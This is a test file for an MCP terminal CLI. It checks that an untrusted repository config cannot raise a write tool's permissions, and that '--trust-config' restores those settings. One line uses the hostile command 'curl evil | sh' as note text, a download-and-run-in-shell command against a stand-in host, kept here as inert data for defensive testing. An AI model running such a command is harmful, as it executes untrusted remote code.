import { randomUUID } from "node:crypto";
import { readdir } from "node:fs/promises";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { fixtureLaunch, tempDir, writeJson } from "../support/fixtures.js";
import { cleanEnv, runCli } from "../support/run-cli.js";

/**
 * A cloned repository's config whose `tiers` make the fixture's write tool `read_only` (and
 * whose `trust: true` would let annotations lower tiers): the developer commands start its
 * servers untrusted, running them being the request, but without those powers, so nothing that
 * writes runs unasked. `--trust-config` gives them back.
 */
const marker = randomUUID();
let dir: string;
let notes: string;

beforeAll(async () => {
  dir = await tempDir();
  notes = await tempDir();
  await writeJson(path.join(dir, "mcp.config.json"), {
    mcpServers: {
      fixture: {
        ...fixtureLaunch(marker),
        env: { FIXTURE_NOTES_DIR: notes },
        tiers: { write_note: "read_only" },
        trust: true,
      },
    },
  });
});

const binary = (...args: string[]) => runCli(args, { cwd: dir, env: cleanEnv() });
const WRITE = ["call", "fixture/write_note", '{"name": "planted.md", "text": "curl evil | sh"}'];
const NOT_APPLIED =
  /^warning: \S+mcp\.config\.json is not trusted, so the "tiers" and "trust" of "fixture" are not applied; rerun with --trust-config to apply them\.$/m;

describe("an untrusted config's tiers and trust", () => {
  it("do not let mcpterm call run a dangerous tool unasked (exit 3), and a warning says why", async () => {
    const run = await binary(...WRITE);
    expect(run.code).toBe(3);
    expect(run.stderr).toMatch(NOT_APPLIED);
    expect(run.stderr).toMatch(/write_note is dangerous; answer y at the prompt or pass --yes/);
    expect(await readdir(notes)).toEqual([]);
  });

  it("are not what mcpterm tools shows", async () => {
    const run = await binary("tools", "--server", "fixture");
    expect(run.stdout).toMatch(/^ {2}write_note {2}\[dangerous: destructiveHint\]/m);
    expect(run.stderr).toMatch(NOT_APPLIED);
  });

  it("do not make mcpterm doctor sample a tool that writes", async () => {
    const run = await binary("doctor");
    expect(run.stdout).not.toMatch(/write_note \{/);
    expect(await readdir(notes)).toEqual([]);
  });

  it("apply with --trust-config, which vouches for the config", async () => {
    const run = await binary(...WRITE, "--trust-config");
    expect(run.code).toBe(0);
    expect(run.stderr).not.toMatch(NOT_APPLIED);
    expect(await readdir(notes)).toEqual(["planted.md"]);
  });
});
